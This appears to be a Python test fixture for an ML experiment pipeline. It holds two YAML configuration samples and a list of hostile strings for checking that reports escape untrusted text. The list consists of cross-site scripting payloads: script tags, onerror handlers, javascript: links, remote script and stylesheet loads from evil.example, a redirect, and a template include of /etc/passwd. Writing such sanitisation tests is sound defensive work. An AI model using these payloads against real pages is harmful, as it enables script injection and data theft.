"""A whole study for the tests of configuration and runner (the real ones: params.yaml, profiles/), and hostile text."""

EXAMPLE = """\
seed: 0
problems:
  nano:
    n_maps: 14
    n_values: 50
    zipf_offset: 1.0
    subjects: {chain: 0.2, inverse: 0.4, bridge: 0.2, route: 0.2}
    hops: [0.25, 0.25, 0.25, 0.25]
    n_train: 3000
    n_val: 200
    n_test: 400
corpus: {tokens: 6000000, validation_tokens: 50000, wrong_guess: 0.4, retry: 0.8, astray: 0.3}
models:
  base: {n_layers: 4, width: 64, n_heads: 2, width_mlp: 128}
  large: {n_layers: 5, width: 192, n_heads: 6, width_mlp: 544}
pretrain: {max_length: 128, batch_tokens: 4096, lr_muon: 0.02, lr_adamw: 0.005, shards: 2, checkpoint_seconds: 60.0}
engine: {kind: native}
sampling: {temperature: 0.8, top_p: 1.0, max_tokens: 100}
grading: {kind: exact}
generate:
  base-train: {model: base, split: train, n_samples: 32}
  base-val: {model: base, split: val, n_samples: 512}
  base-test: {model: base, split: test, n_samples: 512}
  large-test: {model: large, split: test, n_samples: 64}
verifier:
  trained:
    pool: base-train
    samples: 8
    rollouts: 8
    epochs: 3
    batch_tokens: 4096
    lr_muon: 0.005
    lr_adamw: 0.002
    dropout: 0.05
    validation_share: 0.1
    shards: 2
    checkpoint_seconds: 60.0
select: {n_resamples: 200, flip_share: 0.2}
difficulty: {n_bins: 5, n_samples: 256, disjoint: false, n_probe: [1, 4, 8, 16, 32], absolute_edges: [0.1, 0.5],
  predictors: {texts: {pool: base-train, reads: data/scores}}}
search: {temperature: 0.8, max_step_tokens: 16, max_rounds: 40, duplicates: keep}
options:
  beam_4: {kind: beam, width: 4}
  beam_sqrt: {kind: beam, width: sqrt}
  lookahead_1: {kind: lookahead, width: sqrt, depth: 1}
  dvts: {kind: dvts, width: 4, depth: 0}
grid:
  budgets: [1, 2, 4, 8, 16, 32, 64, 128, 256, 512]
  search_budgets: [4, 16, 64, 256]
  methods: [beam_4, beam_sqrt, lookahead_1, dvts]
window:
  base_long:
    max_length: 640
    documents: 5
    tokens: 2000000
    batch_tokens: 4096
    lr_muon: 0.01
    lr_adamw: 0.0025
    shards: 2
    checkpoint_seconds: 60.0
revisions:
  kind: trained
  start: base_long
  max_history: 4
  epochs: 6
  n_checkpoints: 6
  n_chains: 4
  batch_tokens: 4096
  lr_muon: 0.005
  lr_adamw: 0.00125
  validation_share: 0.1
  shards: 2
  checkpoint_seconds: 60.0
pairings:
  edit_distance: {learns_from: pools/base-train, attempts: 16}
  none: {learns_from: pools/base-train, attempts: 4}
  rest_em: {learns_from: revisions/verifier, attempts: 4}
revision_verifier:
  edit_distance:
    kind: trained
    epochs: 1
    batch_tokens: 4096
    lr_muon: 0.005
    lr_adamw: 0.002
    dropout: 0.05
    validation_share: 0.1
    shards: 2
    checkpoint_seconds: 60.0
compute_optimal: {fold_seeds: 50, n_bootstrap: 2000, n_walks: 50}
flops_matched: {r_values: [0.16, 0.79, 22.0]}
"""

REPLAY = """\
seed: 0
replay:
  mine:
    folder: pools
    questions: questions.jsonl
    n_val: 100
    chars_per_token: 3.3
    conventions:
      list_order: any
      multiplicities: true
      tuple_is_set: false
      vector_is_tuple: false
      relation_is_set: true
      percent: number
      units: optional
      option_labels: true
      decimals: 6
      decimal_comma: false
    base:
      path: small.jsonl
      format: rows
      columns: {question: id, answer: answer, step_scores: scores}
      name: small
      n_params: 1.0e+9
      pretraining_tokens: 9.0e+12
    large: {path: big.jsonl, format: search_and_learn, name: big, n_params: 3.0e+9, pretraining_tokens: 9.0e+12}
select: {n_resamples: 200, flip_share: 0.2}
difficulty: {n_bins: 2, n_samples: 1, disjoint: true, n_probe: [1], absolute_edges: [0.1, 0.5],
  predictors: {texts: {pool: base-val, reads: data/scores}}}
options: {}
sampling: null
search: null
grid: {budgets: [1, 2, 4], search_budgets: [1, 2], methods: []}
pairings: {}
compute_optimal: {fold_seeds: 50, n_bootstrap: 2000, n_walks: 50}
flops_matched: {r_values: [0.16, 0.79, 22.0]}
"""

# What a model, or somebody's data file, may hold when it reaches a report.
HOSTILE = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=alert(1)>",
    "</pre></td></table><script src=//evil.example/x.js></script>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href=javascript:alert(1)>x</a> [y](javascript:alert(2)) ![z](https://evil.example/z.png)",
    '"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/y.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<p style='background:url(https://evil.example/p.png)' onclick=alert(1)>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$",
    "a\x00b\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u202etxet",
    "```mermaid\n<script>alert(1)</script>\n```",
    "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<div",
]
